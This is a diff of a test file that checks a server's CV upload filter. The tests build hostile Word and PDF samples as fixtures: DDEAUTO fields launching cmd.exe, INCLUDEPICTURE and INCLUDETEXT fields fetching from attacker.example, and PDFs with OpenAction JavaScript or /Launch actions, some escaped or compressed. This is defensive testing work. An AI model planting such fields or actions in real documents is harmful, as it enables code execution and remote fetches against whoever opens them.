@@ -2,20 +2,23 @@
  * The Word files a partner's CV may be, checked by their structure: a .doc is read as an OLE
  * compound file (cfb, in a bounded process of its own) and refused with a macro project or embedded
  * objects; a .docx is refused with a relationship to something outside the package, an OLE
- * object, a program or a Windows shortcut. Every attacker file is made here: the .doc files with
+ * object, a program, a Windows shortcut, an imported chunk or a field that fetches (DDE,
+ * INCLUDEPICTURE…). Every attacker file is made here: the .doc files with
  * cfb's writer, the .docx files with yazl. Before these checks a .doc was known by its first
  * 8 bytes only, and a .docx was read for macros alone: each refusal below was accepted.
  */
+import zlib from 'node:zlib';
 import { describe, expect, test } from 'vitest';
 import { DOC_LIMITS, docFileProblem, type DocFileProblem } from '../../src/server/receiver/doc-file';
 import {
+  activePdf,
   checkUploads,
   detectKind,
   relationshipsProblem,
   wordDocumentProblem,
   type WordDocumentProblem,
 } from '../../src/server/receiver/uploads';
-import { compoundFile, directoryIndex, minimalDoc, patchDirectory, patchFat, startSector } from '../helpers/cfb';
+import { WORD_STREAMS, compoundFile, directoryIndex, minimalDoc, patchDirectory, patchFat, startSector } from '../helpers/cfb';
 import { minimalDocx, WORD_PARTS, zipOf } from '../helpers/zip';
 import { WorkQueue } from '../../src/server/ops/work-queue';
 
@@ -122,6 +125,22 @@ describe('a .doc is read as a compound file', () => {
     },
     2 * DOC_LIMITS.timeoutMs + 15_000,
   );
+
+  test('a .doc whose text begins a field that fetches (8-bit or UTF-16) is refused', async () => {
+    const withText = (text: Buffer) => {
+      const main = new Uint8Array(6000).fill(0x20);
+      main.set(text, 1024);
+      return compoundFile([{ path: '/WordDocument', data: main }, ...WORD_STREAMS.slice(1)]);
+    };
+    const field = '\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014\u0015';
+    expect(await docFileProblem(withText(Buffer.from(field, 'latin1')), readings)).toBe('fields');
+    expect(await docFileProblem(withText(Buffer.from(field.replace('DDEAUTO', 'INCLUDEPICTURE'), 'utf16le')), readings)).toBe(
+      'fields',
+    );
+    expect(
+      await docFileProblem(withText(Buffer.from('\u0013 PAGE \u0014 1\u0015 DDEAUTO as a word', 'latin1')), readings),
+    ).toBeUndefined();
+  });
 
   test('files that are no compound file, named .doc, are refused by content', async () => {
     const files = [
@@ -259,6 +278,61 @@ describe('a .docx is refused with what Word loads or runs on its own', () => {
     });
   }
 
+  /** A .docx whose body is this WordprocessingML (inside `<w:body>`). */
+  const docxWithBody = (body: string) =>
+    zipOf([
+      ...WORD_PARTS.filter((part) => part.name !== 'word/document.xml'),
+      {
+        name: 'word/document.xml',
+        data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
+      },
+    ]);
+  const run = (inner: string) => `<w:r>${inner}</w:r>`;
+  const complexField = (...instructions: string[]) =>
+    run('<w:fldChar w:fldCharType="begin"/>') +
+    instructions.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('') +
+    run('<w:fldChar w:fldCharType="separate"/>') +
+    run('<w:t>shown</w:t>') +
+    run('<w:fldChar w:fldCharType="end"/>');
+
+  test('fields that fetch or run something are refused; the fields a CV uses are not', async () => {
+    const fetching = [
+      complexField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '),
+      // Split across runs, as Word writes it.
+      complexField(' INCLUDE', 'PICTURE "\\\\attacker.example\\share\\a.png" \\d '),
+      complexField(' includetext "https://attacker.example/cv.docx" '),
+      `<w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\host\\s\\b.xls&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`,
+      // Nested inside an innocent field's instruction.
+      run('<w:fldChar w:fldCharType="begin"/>') +
+        run('<w:instrText> IF 1 = 1 "</w:instrText>') +
+        complexField(' DDE a b ') +
+        run('<w:fldChar w:fldCharType="end"/>'),
+    ];
+    for (const body of fetching) expect(await wordDocumentProblem(await docxWithBody(`<w:p>${body}</w:p>`)), body).toBe('fields');
+    const plain = [
+      complexField(' PAGE '),
+      complexField(' HYPERLINK "https://example.com/link" '),
+      complexField(' TOC \\o "1-3" '),
+    ];
+    expect(
+      await wordDocumentProblem(await docxWithBody(`<w:p>${plain.join('')}<w:r><w:t>DDEAUTO in plain text</w:t></w:r></w:p>`)),
+    ).toBeUndefined();
+    // A header is read as the body is.
+    expect(
+      await wordDocumentProblem(
+        await minimalDocx([{ name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${complexField(' DDE x y ')}</w:hdr>` }]),
+      ),
+    ).toBe('fields');
+  });
+
+  test('an alternative format chunk (aFChunk: a document Word imports whole) is refused', async () => {
+    const bytes = await minimalDocx([
+      documentRels(`Id="rId9" Type="${REL}/aFChunk" Target="afchunk.mht"`),
+      { name: 'word/afchunk.mht', data: 'MIME-Version: 1.0' },
+    ]);
+    expect(await wordDocumentProblem(bytes)).toBe('embedded');
+  });
+
   test('relationships are read by their attributes, not by a search of the text', () => {
     // A ">" inside an attribute value ends no element: TargetMode after it still counts.
     expect(
@@ -299,5 +373,36 @@ describe('a .docx is refused with what Word loads or runs on its own', () => {
       ],
       problems: ['docx:executable', 'docx:external'],
     });
+  });
+});
+
+describe('a PDF that may run something when opened', () => {
+  const pdf = (body: string) => new TextEncoder().encode(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
+  /** A PDF whose catalog sits in a compressed object stream, as PDF 1.5 and later write it. */
+  const inObjectStream = (objects: string) => {
+    const packed = zlib.deflateSync(Buffer.from(objects, 'latin1'));
+    const head = Buffer.from(
+      `%PDF-1.7\n2 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
+      'latin1',
+    );
+    return new Uint8Array(Buffer.concat([head, packed, Buffer.from('\nendstream endobj\n%%EOF\n', 'latin1')]));
+  };
+
+  test('JavaScript, a program launched or an action on opening, plain, escaped or compressed, is found', () => {
+    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'))).toBe(true);
+    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj'))).toBe(true);
+    expect(activePdf(pdf('5 0 obj << /S /Launch /F (cmd.exe) >> endobj'))).toBe(true);
+    expect(activePdf(pdf('5 0 obj << /S /J#61vaScript /J#53 (x) >> endobj'))).toBe(true);
+    expect(activePdf(inObjectStream('1 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>'))).toBe(true);
+    // An object stream that cannot be read hides what it holds.
+    expect(
+      activePdf(new TextEncoder().encode('%PDF-1.7\n2 0 obj << /Type /ObjStm >>\nstream\nnot deflate\nendstream endobj')),
+    ).toBe(true);
+  });
+
+  test("a CV's PDF, opening on a page view, or with its objects compressed, is plain", () => {
+    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH null] >> endobj'))).toBe(false);
+    expect(activePdf(pdf('1 0 obj << /Type /Catalog /Names << /Dests 4 0 R >> /JSFont 2 >> endobj'))).toBe(false);
+    expect(activePdf(inObjectStream('1 0 << /Type /Catalog /Pages 3 0 R >>'))).toBe(false);
   });
 });
